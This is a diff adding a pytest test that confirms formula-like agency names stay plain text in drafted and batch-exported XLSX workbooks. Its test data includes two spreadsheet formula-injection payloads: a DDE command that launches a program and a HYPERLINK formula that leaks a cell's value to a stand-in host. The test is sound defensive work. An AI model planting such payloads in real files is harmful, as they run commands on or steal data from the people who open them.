@@ -55,6 +55,28 @@ def test_formula_text_is_text_in_xlsx_and_comes_back(tmp_path: Path) -> None:
     assert measure["note"] == texts["--note"]
 
 
+@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&B5,"open")'])
+def test_an_agency_named_like_a_formula_is_text_in_every_cell_of_every_sheet(tmp_path: Path, name: str) -> None:
+    """The second attack, item 1: the title rows above the table were written before cells were neutralised, so
+    the agency's name became a live formula in A2 of both sheets (draft and batch alike)."""
+    from openpyxl import load_workbook
+
+    quoted = '"' + name.replace('"', '""') + '"'  # as a CSV cell
+    results = tmp_path / "results.csv"
+    results.write_text("fiscal_year,2568\nagency," + quoted + "\ncode,score\ni1,80\no1,0\n", encoding="utf-8")
+    drafted = tmp_path / "plan.xlsx"
+    assert run("draft", str(results), "-o", str(drafted)).exit_code == 0
+    table = tmp_path / "many.csv"
+    table.write_text("agency,fiscal_year,i1,o1\n" + quoted + ",2568,80,0\n", encoding="utf-8")
+    out = tmp_path / "out"
+    assert run("batch", str(table), "-o", str(out), "--format", "xlsx", "--jobs", "1").exit_code == 0
+    for path in [drafted, *out.glob("*.xlsx")]:
+        workbook = load_workbook(path)
+        cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], path
+        assert any(c.value == name for c in cells), path  # the name is there, as text
+
+
 def test_formula_text_is_neutralised_in_csv(tmp_path: Path) -> None:
     plan, _ = _plan(tmp_path)
     data = yaml.safe_load(plan.read_text(encoding="utf-8"))
